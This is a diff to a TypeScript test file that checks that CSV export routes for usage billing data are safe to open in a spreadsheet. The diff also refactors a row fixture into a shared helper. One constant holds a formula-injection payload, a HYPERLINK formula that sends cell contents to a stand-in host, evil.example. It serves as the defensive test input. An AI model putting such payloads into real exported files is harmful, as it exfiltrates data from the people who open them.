@@ -7,6 +7,7 @@ import { logsRoutes } from '../../src/api/logs-routes.js';
 import { createLogger } from '../../src/log.js';
 import { createRegistry } from '../../src/metrics.js';
 import { testConfig } from '../support/store.js';
+import { usageDayRow } from '../support/rows.js';
 
 // Values a platform tenant controls, which a spreadsheet would evaluate if written as they are.
 const HOSTILE_APP = '=HYPERLINK("http://evil.example/?d="&A2,"click")';
@@ -58,29 +59,8 @@ describe('every CSV route is safe to open', () => {
       registry: createRegistry({ defaultMetrics: false }),
       extensions: [apiExtension([logsRoutes])],
     });
-    const usage = (bucket: string, cost: string) => ({
-      timezone: 'UTC',
-      timeframe: 'day',
-      bucket: `${bucket} 00:00:00.000`,
-      bucket_offset_minutes: 0,
-      bucket_date: bucket,
-      app: HOSTILE_APP,
-      environment: 'main',
-      machine_type: 'GPU-H100',
-      is_surge: false,
-      unit: 'machine-seconds',
-      quantity: '100',
-      unit_price: '0.000575',
-      percent_discount: null,
-      cost_subtotal: cost,
-      cost_discount: '0',
-      cost_total: cost,
-      currency: 'USD',
-      raw: '{}',
-      version: 1,
-      is_deleted: 0,
-      collected_at: '2026-10-03 00:00:00.000',
-    });
+    const usage = (day: string, cost: string) =>
+      usageDayRow(day, { app: HOSTILE_APP, machine_type: 'GPU-H100', quantity: '100', unit_price: '0.000575', cost_subtotal: cost, cost_total: cost });
     await service.store.client.insert({
       table: 'usage_buckets',
       values: [usage('2026-10-01', '0.0575'), usage('2026-10-02', '0.0575')],
